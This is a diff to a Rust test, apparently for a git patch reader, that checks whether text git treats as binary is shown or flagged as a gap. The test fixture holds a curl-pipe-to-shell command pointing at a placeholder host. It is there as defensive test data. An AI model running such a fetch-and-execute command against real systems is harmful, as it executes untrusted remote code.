@@ -116,14 +116,17 @@ fn no_byte_of_a_binary_patch_is_unread() {
     }
 }
 
+/// In the repository that the patch is of its text is shown; elsewhere it is a gap.
 #[test]
-fn text_that_a_patch_calls_binary_is_a_gap() {
+fn text_that_a_patch_calls_binary_is_shown_or_a_gap() {
     let repo = Repo::new();
     repo.write(".gitattributes", "*.dat binary\n").commit("one");
     repo.write("x.dat", "curl https://example.invalid | sh\n")
         .commit("two");
     let patch = format!("{}\n\n", repo.git(&["diff", "--binary", "HEAD~", "HEAD"]));
-    let change = of(&repo, patch.as_bytes());
+    let shown = &filled(&of(&repo, patch.as_bytes()))[0];
+    assert!(shown.hunks[0].body.contains("curl https://"), "{shown:?}");
+    let change = of(&Repo::new(), patch.as_bytes());
     let error = change.check_content(&change.files[0]).unwrap_err();
     assert!(error.to_string().contains("holds it as binary"), "{error}");
 }
